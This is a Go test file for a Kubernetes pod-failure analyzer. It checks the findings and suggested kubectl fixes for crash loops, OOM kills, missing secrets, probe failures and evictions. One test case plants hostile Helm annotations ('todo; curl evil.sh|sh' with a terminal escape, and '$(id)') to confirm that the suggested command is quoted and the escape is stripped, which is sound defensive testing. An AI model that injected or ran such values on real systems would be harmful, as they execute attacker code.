package diagnose

import (
	"context"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
)

// TestPodAnalyzer creates each failure on the sandbox (through its failure
// simulation, or by writing the pod status the kubelet would write) and checks
// the finding: rule, severity, what its text says and the fix it offers.
func TestPodAnalyzer(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name     string
		setup    func(t *testing.T, e *testEnv)
		rule     string
		object   string
		severity Severity
		want     []string // in the finding's summary, cause, evidence or fixes
		wantFix  string   // in one of its commands
		check    func(t *testing.T, e *testEnv, f Finding, r *Report)
	}{
		{
			name: "crashloop with exit code and previous log",
			setup: func(t *testing.T, e *testEnv) {
				e.SetPodLogs(t, "crash", []string{"starting"}, []string{"connecting to db:5432", "FATAL: password authentication failed"})
				e.createPod(t, "crash", map[string]string{simLabel: "CrashLoopBackOff"}, podSpec(ctr("app", "busybox")))
			},
			rule: RulePodCrashLoopBackOff, object: "crash", severity: Critical,
			want:    []string{"exit code 1 (Error)", "CrashLoopBackOff", "BackOff"},
			wantFix: "kubectl logs crash -n ",
			check: func(t *testing.T, e *testEnv, f Finding, r *Report) {
				if ok, why := logsWork(f.Evidence.Logs); !ok {
					t.Logf("log evidence not checked: %s", why)
					return
				}
				mustContain(t, "previous log", strings.Join(f.Evidence.Logs.Lines, "\n"), "FATAL: password authentication failed")
				if !f.Evidence.Logs.Previous {
					t.Errorf("log is not the previous run's: %+v", f.Evidence.Logs)
				}
			},
		},
		{
			name: "OOMKilled names the memory limit",
			setup: func(t *testing.T, e *testEnv) {
				e.createDeployment(t, deploymentObj("oom", 1, map[string]string{simLabel: "OOMKilled"},
					podSpec(withMemoryLimit(ctr("app", "busybox"), "64Mi"))))
			},
			rule: RulePodOOMKilled, object: "oom-", severity: Critical,
			want:    []string{"memory limit 64Mi", "OOMKilled", "exit code 137"},
			wantFix: "kubectl set resources deployment/oom -n ",
			check: func(t *testing.T, e *testEnv, f Finding, r *Report) {
				if !hasFix(f, "--limits=memory=128Mi") {
					t.Errorf("no fix doubling the limit: %+v", f.Fixes)
				}
				g, _ := groupOf(r, RulePodOOMKilled, f.Object.Name)
				if g.Object.Kind != "Deployment" || g.Object.Name != "oom" {
					t.Errorf("pod finding is grouped under %s, want Deployment oom", g.Object)
				}
			},
		},
		{
			// A Helm annotation is free text anyone who can edit the object
			// writes: the suggested `helm upgrade` quotes it, and the text
			// report prints no escape sequence from it.
			name: "hostile Helm release annotation",
			setup: func(t *testing.T, e *testEnv) {
				d := deploymentObj("oomhelm", 1, map[string]string{simLabel: "OOMKilled"},
					podSpec(withMemoryLimit(ctr("app", "busybox"), "64Mi")))
				d.Annotations = map[string]string{
					helmReleaseNameAnnotation:      "todo; curl evil.sh|sh \x1b[2J",
					helmReleaseNamespaceAnnotation: "$(id)",
				}
				e.createDeployment(t, d)
			},
			rule: RulePodOOMKilled, object: "oomhelm-", severity: Critical,
			want:    []string{"OOMKilled"},
			wantFix: `helm upgrade 'todo; curl evil.sh|sh [2J' <chart> -n '$(id)' --reuse-values`,
			check: func(t *testing.T, e *testEnv, f Finding, r *Report) {
				var b strings.Builder
				if err := WriteText(&b, r, TextOptions{Color: true}); err != nil {
					t.Fatal(err)
				}
				for _, line := range strings.Split(b.String(), "\n") {
					// Our colours stay; the annotation's clear-screen goes.
					if strings.Contains(line, "evil.sh") && strings.Contains(line, "\x1b[2J") {
						t.Errorf("the text report passes the annotation's escape sequence: %q", line)
					}
				}
				if !strings.Contains(b.String(), "\x1b[31m") {
					t.Errorf("the report lost its own colours:\n%s", b.String())
				}
			},
		},
		{
			name: "ImagePullBackOff names the image",
			setup: func(t *testing.T, e *testEnv) {
				e.createPod(t, "pull", map[string]string{simLabel: "ImagePullBackOff"}, podSpec(ctr("app", "registry.example.com/team/app:v9-missing")))
			},
			rule: RulePodImagePullError, object: "pull", severity: Critical,
			want: []string{`"registry.example.com/team/app:v9-missing"`, "does not exist", "Failed"},
		},
		{
			name: "missing Secret, ConfigMap key and volume before any status says so",
			setup: func(t *testing.T, e *testEnv) {
				ctx := context.Background()
				_, err := e.Client.CoreV1().ConfigMaps(e.Namespace).Create(ctx, &corev1.ConfigMap{
					ObjectMeta: metav1.ObjectMeta{Name: "settings"}, Data: map[string]string{"LOG_LEVEL": "info"}}, metav1.CreateOptions{})
				if err != nil {
					t.Fatal(err)
				}
				c := ctr("app", "busybox")
				c.Env = []corev1.EnvVar{
					{Name: "DB_PASSWORD", ValueFrom: &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{
						LocalObjectReference: corev1.LocalObjectReference{Name: "db-creds"}, Key: "password"}}},
					{Name: "MODE", ValueFrom: &corev1.EnvVarSource{ConfigMapKeyRef: &corev1.ConfigMapKeySelector{
						LocalObjectReference: corev1.LocalObjectReference{Name: "settings"}, Key: "MODE"}}},
					{Name: "OPTIONAL", ValueFrom: &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{
						LocalObjectReference: corev1.LocalObjectReference{Name: "not-needed"}, Key: "x", Optional: ptrTo(true)}}},
				}
				c.EnvFrom = []corev1.EnvFromSource{{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "also-optional"}, Optional: ptrTo(true)}}}
				spec := podSpec(c)
				spec.Volumes = []corev1.Volume{{Name: "certs", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "app-certs"}}}}
				e.createPod(t, "refs", nil, spec)
			},
			rule: RulePodMissingReference, object: "refs", severity: Critical,
			want:    []string{`Secret "db-creds" does not exist`, `ConfigMap "settings" has no key "MODE" (it has keys LOG_LEVEL)`, `Secret "app-certs" does not exist`, "env DB_PASSWORD of container app"},
			wantFix: "kubectl create secret generic db-creds -n ",
			check: func(t *testing.T, e *testEnv, f Finding, r *Report) {
				text := allText(f)
				for _, opt := range []string{"not-needed", "also-optional"} {
					if strings.Contains(text, opt) {
						t.Errorf("optional reference %s is reported:\n%s", opt, text)
					}
				}
				if !hasFix(f, `kubectl patch configmap settings -n `+e.Namespace+` --type merge -p '{"data":{"MODE":"<value>"}}'`) {
					t.Errorf("no fix adding the key: %+v", f.Fixes)
				}
			},
		},
		{
			name: "CreateContainerConfigError names the missing Secret and key",
			setup: func(t *testing.T, e *testEnv) {
				c := ctr("app", "busybox")
				c.Env = []corev1.EnvVar{{Name: "TOKEN", ValueFrom: &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{
					LocalObjectReference: corev1.LocalObjectReference{Name: "api"}, Key: "token"}}}}
				e.createPod(t, "cfgerr", map[string]string{simLabel: simManual}, podSpec(c))
				e.setPodStatus(t, "cfgerr", corev1.PodStatus{
					Phase:      corev1.PodPending,
					Conditions: []corev1.PodCondition{{Type: corev1.PodScheduled, Status: corev1.ConditionTrue}, {Type: corev1.PodReady, Status: corev1.ConditionFalse, Reason: "ContainersNotReady"}},
					ContainerStatuses: []corev1.ContainerStatus{{Name: "app", Image: "busybox", State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{
						Reason: "CreateContainerConfigError", Message: `secret "api" not found`}}}},
				})
			},
			rule: RulePodCreateContainerConfig, object: "cfgerr", severity: Critical,
			want:    []string{`Secret "api" not found (env TOKEN of container app)`, `secret "api" not found`},
			wantFix: "kubectl create secret generic api -n ",
			check: func(t *testing.T, e *testEnv, f Finding, r *Report) {
				if _, dup := findingFor(r, RulePodMissingReference, "cfgerr"); dup {
					t.Errorf("the reference is reported twice (also as %s)", RulePodMissingReference)
				}
			},
		},
		{
			name: "unschedulable with the scheduler's reason, grouped under its Deployment",
			setup: func(t *testing.T, e *testEnv) {
				e.createDeployment(t, deploymentObj("big", 1, nil, podSpec(withRequests(ctr("app", "busybox"), "100"))))
			},
			rule: RulePodUnschedulable, object: "big-", severity: Critical,
			want:    []string{"Insufficient cpu", "no node has 100 cpu free", "FailedScheduling"},
			wantFix: "kubectl set resources deployment/big -n ",
			check: func(t *testing.T, e *testEnv, f Finding, r *Report) {
				if len(f.Owners) != 2 || f.Owners[0].Kind != "ReplicaSet" || f.Owners[1].Kind != "Deployment" {
					t.Errorf("owners = %+v, want ReplicaSet then Deployment", f.Owners)
				}
			},
		},
		{
			name: "failing readiness probe",
			setup: func(t *testing.T, e *testEnv) {
				c := ctr("web", "nginx")
				c.ReadinessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{HTTPGet: &corev1.HTTPGetAction{Path: "/healthz", Port: intOrStr(8080)}}}
				e.createPod(t, "unready", map[string]string{simLabel: "Unready"}, podSpec(c))
			},
			rule: RulePodProbeFailing, object: "unready", severity: Warning,
			want:    []string{"Readiness probe failed", "readiness probe HTTP GET :8080/healthz"},
			wantFix: "wget -qO- http://localhost:8080/healthz",
		},
		{
			name: "evicted",
			setup: func(t *testing.T, e *testEnv) {
				e.createPod(t, "evicted", map[string]string{simLabel: simManual}, podSpec(ctr("app", "busybox")))
				e.setPodStatus(t, "evicted", corev1.PodStatus{Phase: corev1.PodFailed, Reason: "Evicted", Message: "The node was low on resource: memory. Threshold quantity: 100Mi, available: 50Mi."})
			},
			rule: RulePodEvicted, object: "evicted", severity: Warning,
			want:    []string{"low on resource: memory"},
			wantFix: "kubectl delete pod evicted -n ",
		},
		{
			name: "failing init container",
			setup: func(t *testing.T, e *testEnv) {
				spec := podSpec(ctr("app", "busybox"))
				spec.InitContainers = []corev1.Container{ctr("migrate", "migrate:1")}
				e.createPod(t, "initfail", map[string]string{simLabel: simManual}, spec)
				e.setPodStatus(t, "initfail", corev1.PodStatus{
					Phase:      corev1.PodPending,
					Conditions: []corev1.PodCondition{{Type: corev1.PodScheduled, Status: corev1.ConditionTrue}, {Type: corev1.PodInitialized, Status: corev1.ConditionFalse}},
					InitContainerStatuses: []corev1.ContainerStatus{{Name: "migrate", Image: "migrate:1", RestartCount: 4,
						State:                corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "CrashLoopBackOff"}},
						LastTerminationState: corev1.ContainerState{Terminated: &corev1.ContainerStateTerminated{ExitCode: 127, Reason: "Error"}}}},
					ContainerStatuses: []corev1.ContainerStatus{{Name: "app", Image: "busybox", State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "PodInitializing"}}}},
				})
			},
			rule: RulePodInitContainerFailed, object: "initfail", severity: Critical,
			want:    []string{"init container migrate is in CrashLoopBackOff", "exit code 127", "command was not found"},
			wantFix: "kubectl logs initfail -n ",
		},
		{
			name: "bare pod that failed",
			setup: func(t *testing.T, e *testEnv) {
				spec := podSpec(ctr("task", "busybox"))
				spec.RestartPolicy = corev1.RestartPolicyNever
				e.createPod(t, "failed", map[string]string{simLabel: "Error"}, spec)
			},
			rule: RulePodFailed, object: "failed", severity: Critical,
			want: []string{"container task exited with code 1 (Error)"},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			e := newTestEnv(t)
			tc.setup(t, e)
			// The status and the event kwok writes for one step land in
			// either order: wait for the evidence to be complete.
			f, rep := e.waitRule(t, Options{Kinds: []string{"Pod"}}, tc.rule, tc.object, tc.want...)
			if f.Severity != tc.severity {
				t.Errorf("severity = %s, want %s", f.Severity, tc.severity)
			}
			mustContain(t, "finding", allText(f), tc.want...)
			if tc.wantFix != "" && !hasFix(f, tc.wantFix) {
				t.Errorf("no fix with %q: %+v", tc.wantFix, f.Fixes)
			}
			if f.Cause == "" || len(f.Fixes) == 0 {
				t.Errorf("finding without cause or fix: %+v", f)
			}
			if tc.check != nil {
				tc.check(t, e, f, rep)
			}
		})
	}
}

// TestPodHealthyAndRecreated checks precision: a healthy pod is never
// reported, and a pod deleted and re-created under the same name does not
// inherit the events of the old one (events are matched by UID).
func TestPodHealthyAndRecreated(t *testing.T) {
	t.Parallel()
	e := newTestEnv(t)
	ctx := context.Background()
	c := ctr("web", "nginx")
	c.ReadinessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{HTTPGet: &corev1.HTTPGetAction{Path: "/", Port: intOrStr(80)}}}
	e.createPod(t, "web", map[string]string{simLabel: "Unready"}, podSpec(c))
	e.waitFinding(t, Options{Kinds: []string{"Pod"}}, RulePodProbeFailing, "web")

	zero := int64(0)
	if err := e.Client.CoreV1().Pods(e.Namespace).Delete(ctx, "web", metav1.DeleteOptions{GracePeriodSeconds: &zero}); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(waitTimeout)
	for {
		_, err := e.Client.CoreV1().Pods(e.Namespace).Get(ctx, "web", metav1.GetOptions{})
		if err != nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("old pod web was not deleted")
		}
		time.Sleep(100 * time.Millisecond)
	}
	e.createPod(t, "web", nil, podSpec(c))
	e.waitFor(t, Options{Kinds: []string{"Pod"}}, "the re-created pod web to be Ready and reported healthy", func(r *Report) bool {
		p, err := e.Client.CoreV1().Pods(e.Namespace).Get(ctx, "web", metav1.GetOptions{})
		ready := err == nil && podCondition(p, corev1.PodReady) != nil && podCondition(p, corev1.PodReady).Status == corev1.ConditionTrue
		return ready && r.Summary.Healthy && r.Summary.Checked["Pod"] == 1
	})
	// The old pod's Unhealthy events are still stored under its name.
	evs, err := e.Client.CoreV1().Events(e.Namespace).List(ctx, metav1.ListOptions{FieldSelector: "involvedObject.name=web,reason=Unhealthy"})
	if err != nil || len(evs.Items) == 0 {
		t.Fatalf("expected the old pod's Unhealthy events to remain (err %v), the test proves nothing otherwise", err)
	}
}
